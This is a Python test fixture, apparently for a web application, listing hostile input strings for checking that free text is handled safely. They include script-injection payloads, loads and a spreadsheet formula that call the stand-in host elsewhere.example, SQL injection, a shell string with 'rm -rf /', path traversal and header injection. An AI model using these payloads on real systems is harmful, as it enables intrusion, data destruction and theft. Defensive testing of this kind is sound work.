"""Text as strangers send it: to run in a browser, to break a file, to upset a database. Each sets `window.ran`, asks
`elsewhere.example`, or breaks what reads it, where it is taken for more than text."""

TEXTS: dict[str, str] = {
    # Markup that runs.
    "script": "<script>window.ran=1</script>",
    "script, closing another": "</script><script>window.ran=2</script>",
    "script from elsewhere": '<script src="https://elsewhere.example/x.js"></script>',
    "image": "<img src=x onerror=window.ran=3>",
    "image from elsewhere": "<img src=https://elsewhere.example/pixel.png>",
    "svg": "<svg onload=window.ran=4>",
    "svg animation": '<svg><animate onbegin="window.ran=5" attributeName=x dur=1s>',
    "frame": '<iframe srcdoc="<script>parent.ran=6</script>"></iframe>',
    "object": '<object data="https://elsewhere.example/x"></object>',
    "details": "<details open ontoggle=window.ran=7>",
    "body": "<body onload=window.ran=8>",
    "style": "<style>@import 'https://elsewhere.example/x.css';</style>",
    "link": '<link rel=stylesheet href="https://elsewhere.example/x.css">',
    "base": '<base href="https://elsewhere.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
    "form": '<form action="https://elsewhere.example/"><input name=password autofocus onfocus=window.ran=9>',
    "out of an attribute": '" onmouseover="window.ran=10" autofocus onfocus=\'window.ran=11',
    "out of a single-quoted attribute": "' onfocus='window.ran=12' autofocus='",
    "out of a comment": "--><img src=x onerror=window.ran=13>",
    "out of a title": "</title></textarea></style><img src=x onerror=window.ran=14>",
    "mutation through mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=window.ran=15&gt;'>",
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=16>">',
    "entities": "&lt;script&gt;window.ran=17&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "full-width markup": "＜script＞window.ran=18＜/script＞",
    "half a tag": "<a href='x",
    # Addresses that run.
    "javascript address": "javascript:window.ran=19",
    "javascript address, hidden": "jaVasCript:/*--></title></style>*/window.ran=20",
    "data address": "data:text/html,<script>window.ran=21</script>",
    "markdown link": "[press](javascript:window.ran=22)",
    # Templates and code.
    "template of Django's": "{{ settings.SECRET_KEY }}{% load static %}{% debug %}",
    "template of a browser's": "{{constructor.constructor('window.ran=23')()}}",
    "template of Python's": "%(password)s {0.__class__} %s %n ${7*7} #{7*7}",
    "name of an object": "__proto__",
    "code in JSON": '{"__proto__":{"ran":24},"constructor":null}',
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.ran=25 )//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!><sVg/<sVg/oNloAd=window.ran=26//>",
    # Spreadsheets.
    "formula": '=HYPERLINK("https://elsewhere.example/?"&A1,"press")',
    "formula that starts a program": "=cmd|' /C calc'!A0",
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "cells": '","=1+1","',
    # Databases, headers, shells.
    "statement": "'; DROP TABLE accounts_user; --",
    "condition": "' OR '1'='1' UNION SELECT password FROM accounts_user --",
    "wildcards": "%_%' ESCAPE '\\",
    "header": "x\r\nSet-Cookie: token=1\r\n\r\n<script>window.ran=27</script>",
    "mail header": "x\nBcc: everybody@elsewhere.example\n\nhello",
    "shell": "$(touch /tmp/ran) `id` ; rm -rf / #",
    "way up": "../../../../etc/passwd%00",
    "percent": "%00%0d%0a%3Cscript%3Ewindow.ran=28%3C/script%3E%",
    # Calendars and documents.
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM",
    "calendar in a line": "x;VALUE=URI:https://elsewhere.example,\\nATTENDEE:mailto:all@elsewhere.example\\;",
    "document": ") Tj ET endstream endobj 9 0 obj << /S /JavaScript /JS (app.alert) >> endobj (",
    "paragraph of a document": "<para><font size=900>&nbsp;<a href='javascript:1'>x</a></para><b>bold",
    # Letters.
    "turned around": "a\u202egnp.exe\u202c \u2066b\u2069 \u200fc",
    "stacked marks": "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 6,
    "zero byte": "before\x00after",
    "line separators": "a\u2028window.ran=29\u2029b",
    "controls": "a\x07\x08\x1b[31mred\x7f\x9b",
    "half a character": "a\ud800b",
    "invisible": "a\u200b\u2060\ufeff\u00adb",
    "no character": "\ufdd0\uffff",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "right to left": "مرحبا <b>שלום</b> ١٢٣",
    "one long word": "W" * 190,
    "nothing but spaces": " \u00a0\u3000 ",
}

# What may not stand anywhere: controls, direction marks, separators, lone surrogates. Free text takes all the others.
NOWHERE = {"turned around", "zero byte", "line separators", "controls", "half a character", "no character"}
